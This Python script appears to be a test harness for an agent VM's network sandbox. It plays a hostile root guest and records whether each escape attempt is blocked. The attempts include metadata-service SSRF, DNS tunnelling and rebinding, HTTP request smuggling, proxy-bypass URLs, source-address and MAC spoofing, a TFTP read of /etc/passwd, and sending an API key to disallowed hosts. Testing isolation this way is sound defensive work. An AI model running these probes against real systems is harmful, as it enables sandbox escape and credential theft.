"""What a hostile guest tries as root. Reads a plan from argv, prints one JSON document for each attempt."""
import base64, json, os, socket, ssl, struct, subprocess, sys, time

PLAN = json.loads(sys.argv[1])
OWN, OUTSIDE, OTHER = PLAN['own'], PLAN['outside'], PLAN['other']
# Behind the second wall the proxy is the only way out, and what does not take it is tried by itself.
BY_PROXY = PLAN['wall'] == 'proxy' and PLAN['set'] != 'direct'
PROXY = ('127.0.0.1', 3128)
# There the network drops in silence what it refuses.
WAIT = 2 if PLAN['set'] == 'direct' else 6


def receive(sock):
    got = b''
    try:
        sock.settimeout(WAIT)
        while len(got) < 65536:
            chunk = sock.recv(65536)
            if not chunk:
                break
            got += chunk
            if b'\r\n\r\n' in got and b'101 ' not in got[:16]:
                sock.settimeout(0.7)
    except OSError as error:
        if not got:
            raise error
    return got


def tunnelled(sock, address, port):
    sock.connect(PROXY)
    sock.sendall(f'CONNECT {address}:{port} HTTP/1.1\r\nHost: {address}:{port}\r\n\r\n'.encode())
    head = b''
    while b'\r\n\r\n' not in head:
        chunk = sock.recv(1)
        if not chunk:
            break
        head += chunk
    if b' 200 ' not in head.split(b'\r\n')[0]:
        raise OSError(f'proxy: {head[:80]!r}')


def proxied(data):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.settimeout(WAIT)
        sock.connect(PROXY)
        sock.sendall(data)
        return receive(sock)


def tcp(address, port, data=b'', sni=None, source=None, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(WAIT)
        if source is not None:
            sock.bind((source, 0))
        if BY_PROXY and source is None and family == socket.AF_INET:
            tunnelled(sock, address, port)
        else:
            sock.connect((address, port))
        if sni is not None:
            context = ssl.create_default_context()
            # The machine's own authority stands behind what its keeper ends.
            if sni != PLAN['apiName']:
                context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            with context.wrap_socket(sock, server_hostname=sni) as secure:
                secure.sendall(data)
                return receive(secure)
        sock.sendall(data or b'ESCAPE\n')
        return receive(sock)


def http(host, path='/', method='GET', extra='', body=''):
    return f'{method} {path} HTTP/1.1\r\nHost: {host}\r\n{extra}\r\n{body}'.encode()


def udp(address, port, data=b'ESCAPE'):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1.5)
        sock.connect((address, port))
        for _ in range(2):
            sock.send(data)
            time.sleep(0.1)
        return sock.recv(4096)


def question(name, kind=1):
    labels = b''.join(bytes([len(one)]) + one.encode() for one in name.split('.'))
    return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>HH', kind, 1)


def command(*words):
    done = subprocess.run(words, capture_output=True, timeout=20)
    if done.returncode != 0:
        raise OSError((done.stderr or done.stdout).decode(errors='replace').strip()[-200:])
    return done.stdout


def unix(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(WAIT)
        sock.connect(path)
        sock.sendall(b'ESCAPE\n')
        return sock.recv(100)


def by_name(name):
    if BY_PROXY:
        return tcp(name, 80, http(name))
    found = sorted({one[4][0] for one in socket.getaddrinfo(name, 80, type=socket.SOCK_STREAM)})
    return b' '.join([repr(found).encode(), *(tcp(one, 80, http(name)) for one in found if ':' not in one)])


def rebound(name):
    """The name first, as a browser does, and then its second answer."""
    for _ in range(3):
        try:
            by_name(name)
        except OSError:
            pass
    return tcp(OUTSIDE, 80, http(name))


def tunnel_by_host(zone, count):
    told = 0
    for index in range(count):
        name = f'{os.urandom(24).hex()}.{index}.{zone}'
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
                sock.settimeout(WAIT)
                if BY_PROXY:
                    tunnelled(sock, name, 80)
                else:
                    sock.connect((OUTSIDE, 80))
                sock.sendall(http(name))
                told += b' 200 ' in sock.recv(4096)[:16]
        except OSError:
            pass
    return f'{told} of {count} answered'.encode()


def tunnel(zone, count):
    if BY_PROXY:
        return tunnel_by_host(zone, count)
    told = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.connect(('10.0.2.3', 53))
        for index in range(count):
            sock.send(question(f'{os.urandom(24).hex()}.{index}.{zone}', 16 if index % 2 else 1))
            try:
                told += sock.recv(4096)[3] & 15 == 0
            except OSError:
                pass
    return f'{told} of {count} answered'.encode()


def interface():
    return next(one for one in os.listdir('/sys/class/net') if one != 'lo')


def with_address(text, attempt):
    dev = interface()
    command('ip', 'addr', 'add', text, 'dev', dev)
    try:
        return attempt()
    finally:
        command('ip', 'addr', 'del', text, 'dev', dev)


def with_mac(attempt):
    dev = interface()
    before = json.loads(command('ip', '-j', 'link', 'show', dev))[0]['address']
    command('ip', 'link', 'set', dev, 'address', '52:54:00:66:66:66')
    try:
        return attempt()
    finally:
        command('ip', 'link', 'set', dev, 'address', before)
        # Who is at the other end has to hear of it; what the attempt came to stays what it was.
        command('ip', 'neigh', 'flush', 'dev', dev)
        subprocess.run(['ping', '-c', '1', '-W', '2', '10.0.2.2'], capture_output=True)


def with_ipv6(attempt):
    dev = interface()
    command('sysctl', '-qw', 'net.ipv6.conf.all.disable_ipv6=0', f'net.ipv6.conf.{dev}.disable_ipv6=0')
    command('ip', '-6', 'addr', 'replace', 'fec0::66/64', 'dev', dev, 'nodad')
    command('ip', '-6', 'route', 'replace', 'default', 'via', 'fec0::2', 'dev', dev)
    return attempt()


KEY = os.environ.get('API_KEY', '')
BASIC = base64.b64encode(f'me:{KEY}'.encode()).decode()
V6 = socket.AF_INET6
CLTE = 'Content-Length: 6\r\nTransfer-Encoding: chunked\r\n'
SMUGGLED = f'0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: {PLAN["forbiddenName"]}\r\n\r\n'
NAME, FORBIDDEN, API = PLAN['name'], PLAN['forbiddenName'], PLAN['apiName']

NETWORK = {
    # this host
    'host loopback at 10.0.2.2': lambda: tcp('10.0.2.2', 5432),
    'host loopback at 10.0.2.2, HTTP': lambda: tcp('10.0.2.2', 80, http('localhost')),
    'host loopback at 10.0.2.3': lambda: tcp('10.0.2.3', 5432),
    'host loopback at 10.0.2.4': lambda: tcp('10.0.2.4', 5432),
    "the machine's own way in": lambda: tcp('10.0.2.2', PLAN['sshPort']),
    'own address, 80': lambda: tcp(OWN, 80, http(OWN)),
    'own address, 443': lambda: tcp(OWN, 443, http(OWN), sni=OWN),
    'own address, 22': lambda: tcp(OWN, 22),
    'own address, 5432': lambda: tcp(OWN, 5432),
    'abstract socket of the host': lambda: unix('\0agentvm-canary'),
    'socket in the project': lambda: unix(PLAN['projectSocket']),
    # addresses and ports
    **{
        f'address {address}:{port}': (lambda address=address, port=port: tcp(address, port, http(address)))
        for address, port in [
            ('10.66.0.1', 80), ('172.16.5.5', 443), ('192.168.77.1', 22), ('100.64.0.1', 80),
            ('169.254.169.254', 80), ('169.254.1.1', 443), ('224.0.0.1', 80), ('240.0.0.1', 80),
            ('0.1.2.3', 80), (OUTSIDE, 25), (OUTSIDE, 53), (OUTSIDE, 5432), (OUTSIDE, 8081),
        ]
    },
    # other protocols
    **{
        f'UDP {address}:{port}': (lambda address=address, port=port: udp(address, port))
        for address, port in [(OUTSIDE, 53), (OUTSIDE, 443), (OUTSIDE, 9999), ('10.0.2.2', 9999), (OWN, 9999), ('10.66.0.1', 53)]
    },
    'ICMP': lambda: command('ping', '-c', '2', '-W', '2', OUTSIDE),
    'ICMP to a private address': lambda: command('ping', '-c', '2', '-W', '2', '10.66.0.1'),
    'IPv6 outside': lambda: with_ipv6(lambda: tcp('2001:db8::2', 80, http('x'), family=V6)),
    'IPv6 loopback of the host': lambda: with_ipv6(lambda: tcp('fec0::2', 5432, family=V6)),
    'IPv6-mapped loopback': lambda: tcp('::ffff:10.0.2.2', 5432, family=V6),
    'another source address': lambda: with_address('10.0.2.99/24', lambda: tcp(OWN, 80, http(OWN), source='10.0.2.99')),
    "a public server's source address": lambda: with_address(f'{OTHER}/32', lambda: tcp('10.66.0.1', 80, http('x'), source=OTHER)),
    # names
    'the resolver of the host': lambda: udp(PLAN['resolver'], 53, question(FORBIDDEN)),
    'the resolver of the host, TCP': lambda: tcp(PLAN['resolver'], 53, struct.pack('>H', 30) + question(FORBIDDEN)),
    'DNS tunnel': lambda: tunnel('tunnel.test', 600),
    'DNS tunnel by Host headers': lambda: tunnel_by_host('by-host.test', 300),
    **{
        f'rebinding, {name}': (lambda name=name: by_name(f'{name}.test'))
        for name in ['to-loopback', 'to-metadata', 'to-private', 'to-own', 'to-six', 'to-mapped', 'to-zero']
    },
    **{
        f'Host header, {name}': (lambda name=name: tcp(OUTSIDE, 80, http(f'{name}.test')))
        for name in ['to-loopback', 'to-metadata', 'to-private', 'to-own', 'to-six', 'to-mapped', 'to-zero']
    },
    'rebinding, second answer': lambda: rebound('flip.test'),
    'an allowed SNI at another address': lambda: tcp(OTHER, 443, http(NAME), sni=NAME),
    'an allowed Host at another address': lambda: tcp(OTHER, 80, http(NAME)),
    'an SNI that leads to loopback': lambda: tcp(OUTSIDE, 443, http(NAME), sni='to-loopback.test'),
    # requests
    'CONNECT': lambda: tcp(OUTSIDE, 80, b'CONNECT 127.0.0.1:5432 HTTP/1.1\r\nHost: 127.0.0.1:5432\r\n\r\n'),
    'CONNECT under an allowed name': lambda: tcp(OUTSIDE, 80, f'CONNECT 127.0.0.1:5432 HTTP/1.1\r\nHost: {NAME}\r\n\r\n'.encode()),
    'absolute form': lambda: tcp(OUTSIDE, 80, f'GET http://127.0.0.1:5432/ HTTP/1.1\r\nHost: {NAME}\r\n\r\n'.encode()),
    'two Host headers': lambda: tcp(OUTSIDE, 80, f'GET / HTTP/1.1\r\nHost: {NAME}\r\nHost: to-loopback.test\r\n\r\n'.encode()),
    'second request to another host': lambda: tcp(OUTSIDE, 80, http(NAME) + http('to-private.test', '/second')),
    'smuggled request': lambda: tcp(OUTSIDE, 80, http(NAME, method='POST', extra=CLTE, body=SMUGGLED.replace(FORBIDDEN, 'to-private.test'))),
    'Host with a port of its own': lambda: tcp(OUTSIDE, 80, http('127.0.0.1:5432')),
    # The system sets its network up anew after this one.
    'another MAC': lambda: with_mac(lambda: tcp(OWN, 80, http(OWN))),
}

ALLOW_MODE = {
    'a name that is not allowed, SNI': lambda: tcp(OUTSIDE, 443, http(FORBIDDEN), sni=FORBIDDEN),
    'a name that is not allowed, Host': lambda: tcp(OUTSIDE, 80, http(FORBIDDEN)),
    'a name that is not allowed, lookup': lambda: repr(socket.getaddrinfo(FORBIDDEN, 80)).encode(),
    'an allowed SNI at another address': lambda: tcp(OTHER, 443, http(NAME), sni=NAME),
    'no name at all': lambda: tcp(OTHER, 443, b'ESCAPE\n'),
    'TLS without a name': lambda: tcp(OTHER, 443, http(NAME), sni=OTHER),
    'SSH to an address that is not allowed': lambda: tcp(OTHER, 22, b'SSH-2.0-x\r\n'),
    'second request to another host': lambda: tcp(OUTSIDE, 80, http(NAME) + http(FORBIDDEN, '/second')),
    'smuggled request': lambda: tcp(OUTSIDE, 80, http(NAME, method='POST', extra=CLTE, body=SMUGGLED)),
    'DNS tunnel': lambda: tunnel('tunnel.test', 60),
    'own address, 80': lambda: tcp(OWN, 80, http(OWN)),
    'host loopback at 10.0.2.2': lambda: tcp('10.0.2.2', 5432),
}

NONE_MODE = {
    'a public name': lambda: tcp(OUTSIDE, 443, http(NAME), sni=NAME),
    'a public address': lambda: tcp(OUTSIDE, 80, http(OUTSIDE)),
    'a lookup': lambda: repr(socket.getaddrinfo(NAME, 80)).encode(),
    'DNS tunnel': lambda: tunnel('tunnel.test', 60),
    'UDP': lambda: udp(OUTSIDE, 53),
    'host loopback at 10.0.2.2': lambda: tcp('10.0.2.2', 5432),
    'own address, 80': lambda: tcp(OWN, 80, http(OWN)),
}

FRAME = b'\x81' + bytes([len(KEY)]) + KEY.encode()
SECRETS = {
    'placeholder in the URL': lambda: tcp(OUTSIDE, 443, http(API, f'/?key={KEY}'), sni=API),
    'placeholder in the path, escaped': lambda: tcp(OUTSIDE, 443, http(API, '/' + ''.join(f'%{ord(c):02x}' for c in KEY)), sni=API),
    'placeholder in the body': lambda: tcp(OUTSIDE, 443, http(API, method='POST', extra=f'Content-Length: {len(KEY)}\r\n', body=KEY), sni=API),
    'placeholder in a chunked body, in two pieces': lambda: tcp(
        OUTSIDE, 443,
        http(API, method='POST', extra='Transfer-Encoding: chunked\r\n',
             body=f'{20:x}\r\n{KEY[:20]}\r\n{len(KEY) - 20:x}\r\n{KEY[20:]}\r\n0\r\n\r\n'), sni=API),
    'placeholder to another host': lambda: tcp(OUTSIDE, 443, http(NAME, extra=f'Authorization: Bearer {KEY}\r\n'), sni=NAME),
    'placeholder by plain HTTP': lambda: tcp(OUTSIDE, 80, http(API, extra=f'Authorization: Bearer {KEY}\r\n')),
    'Host of another name on its connection': lambda: tcp(OUTSIDE, 443, http(NAME, extra=f'Authorization: Bearer {KEY}\r\n'), sni=API),
    'second request to another host on its connection': lambda: tcp(
        OUTSIDE, 443, http(API) + http(NAME, '/second', extra=f'Authorization: Bearer {KEY}\r\n'), sni=API),
    'smuggled request on its connection': lambda: tcp(
        OUTSIDE, 443, http(API, method='POST', extra=CLTE, body=f'0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: {NAME}\r\nAuthorization: Bearer {KEY}\r\n\r\n'), sni=API),
    'CONNECT on its connection': lambda: tcp(OUTSIDE, 443, f'CONNECT {NAME}:443 HTTP/1.1\r\nHost: {API}\r\n\r\n'.encode(), sni=API),
    'frame of a WebSocket': lambda: tcp(
        OUTSIDE, 443, http(API, extra='Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n') + FRAME, sni=API),
    'value in an echo': lambda: tcp(OUTSIDE, 443, http(API, extra=f'Authorization: Bearer {KEY}\r\n'), sni=API),
    'value in an echo, basic': lambda: tcp(OUTSIDE, 443, http(API, extra=f'Authorization: Basic {BASIC}\r\n'), sni=API),
    'a server with a false certificate': lambda: tcp(OUTSIDE, 443, http('false.test', extra=f'Authorization: Bearer {KEY}\r\n'), sni='false.test'),
}

def absolute(url, extra=''):
    host = url.split('/')[2]
    return proxied(f'GET {url} HTTP/1.1\r\nHost: {host}\r\n{extra}\r\n'.encode())


PROXIED = {
    **{
        f'proxy, GET {url}': (lambda url=url: absolute(url))
        for url in [
            'http://127.0.0.1:5432/', 'http://localhost:5432/', 'http://127.1:5432/', 'http://2130706433:5432/',
            'http://0x7f.1:5432/', 'http://[::1]:5432/', 'http://[::ffff:127.0.0.1]:5432/', 'http://10.0.2.2:5432/',
            'http://host.agentvm.internal:5432/', f'http://{OWN}/', f'http://{OWN}:5432/', 'http://169.254.169.254/',
            'http://10.66.0.1/', 'http://to-loopback.test/', 'http://to-own.test/', f'http://{NAME}:25/',
            f'http://{NAME}@127.0.0.1:5432/', 'http://127.0.0.1:3128/',
        ]
    },
    **{
        f'proxy, CONNECT {target}': (lambda target=target: tcp(*target.rsplit(':', 1)))
        for target in [
            'localhost:5432', '127.1:5432', '2130706433:5432', '127.0.0.2:5432', '[::1]:5432', '[::]:5432',
            '[::ffff:127.0.0.1]:5432', '[64:ff9b::7f00:1]:80', '[2001:db8::1]:80', f'[::ffff:{OWN}]:80',
            'host.agentvm.internal:5432', '127.0.0.1:3128', f'127.0.0.1:{PLAN["sshPort"]}', f'{NAME}:25', f'{NAME}:5432',
        ]
    },
    'proxy, CONNECT within a tunnel': lambda: tcp(OUTSIDE, 80, b'CONNECT 127.0.0.1:5432 HTTP/1.1\r\nHost: x\r\n\r\nESCAPE\n'),
    'proxy, CONNECT behind a request': lambda: proxied(
        f'GET http://{NAME}/ HTTP/1.1\r\nHost: {NAME}\r\n\r\nCONNECT 127.0.0.1:5432 HTTP/1.1\r\nHost: x\r\n\r\nESCAPE\n'.encode()),
    'proxy, a request behind a request': lambda: proxied(
        http(NAME, f'http://{NAME}/') + http('127.0.0.1:5432', 'http://127.0.0.1:5432/second')),
    'proxy, another Host than the target': lambda: proxied(http('127.0.0.1:5432', f'http://{NAME}/')),
    'proxy, a request without a Host': lambda: proxied(b'GET / HTTP/1.0\r\n\r\n'),
    'proxy, no HTTP': lambda: proxied(b'\x05\x01\x00' * 10),
}

# What goes past the proxy, or needs no network at all.
DIRECT = {
    **{
        f'past the proxy, {address}:{port}': (lambda address=address, port=port: tcp(address, port, http(address)))
        for address, port in [
            (OUTSIDE, 80), (OUTSIDE, 443), (OUTSIDE, 22), (OUTSIDE, 53), (OWN, 80), (OWN, 5432), ('10.0.2.2', 5432),
            ('10.0.2.2', 80), ('10.0.2.2', PLAN['sshPort']), ('10.0.2.3', 5432), ('10.0.2.4', 5432), ('10.0.2.3', 53),
            ('10.0.2.100', 3128), ('169.254.169.254', 80), ('10.66.0.1', 80),
        ]
    },
    'past the proxy, TFTP of the user network': lambda: udp('10.0.2.2', 69, b'\0\1/etc/passwd\0octet\0'),
    'past the proxy, DNS tunnel': lambda: tunnel('tunnel.test', 5),
    **{
        name: attempt
        for name, attempt in NETWORK.items()
        if name.split(' ')[0] in ('UDP', 'ICMP', 'IPv6', 'IPv6-mapped', 'another', 'a', 'abstract', 'socket')
        or name == 'the resolver of the host'
    },
}
if BY_PROXY:
    NETWORK = {**{name: one for name, one in NETWORK.items() if name not in DIRECT}, **PROXIED}
    ALLOW_MODE['a name that is not allowed, tunnel'] = lambda: tcp(FORBIDDEN, 443, http(FORBIDDEN), sni=FORBIDDEN)
    ALLOW_MODE['a name that is not allowed, request'] = lambda: absolute(f'http://{FORBIDDEN}/')
    ALLOW_MODE['another SNI than the tunnel'] = lambda: tcp(NAME, 443, http(FORBIDDEN), sni=FORBIDDEN)
    ALLOW_MODE['another Host than the tunnel'] = lambda: tcp(NAME, 80, http(FORBIDDEN))
    SECRETS['placeholder by plain HTTP, request'] = lambda: absolute(f'http://{API}/', f'Authorization: Bearer {KEY}\r\n')
    SECRETS['placeholder to another host, request'] = lambda: absolute(f'http://{NAME}/', f'X-Key: {KEY}\r\n')

CONTROLS = {
    'HTTP': lambda: tcp(OUTSIDE, 80, http(NAME, '/control')),
    'TLS': lambda: tcp(OUTSIDE, 443, http(NAME, '/control'), sni=NAME),
    'a name': lambda: by_name(NAME),
}

SETS = {'network': NETWORK, 'direct': DIRECT, 'allow': ALLOW_MODE, 'none': NONE_MODE, 'secrets': SECRETS, 'controls': CONTROLS}
if PLAN['set'] == 'direct':
    # The restricted network tells of no way out; who wants one makes one up.
    command('ip', 'route', 'replace', 'default', 'via', '10.0.2.2', 'dev', interface())
for name, attempt in SETS[PLAN['set']].items():
    try:
        got = attempt()
        outcome = {'answer': got.decode('latin1')[:4000]}
    except Exception as error:  # whatever stops it is told
        outcome = {'stopped': f'{type(error).__name__}: {error}'[:300]}
    print(json.dumps({'attempt': name, **outcome}), flush=True)
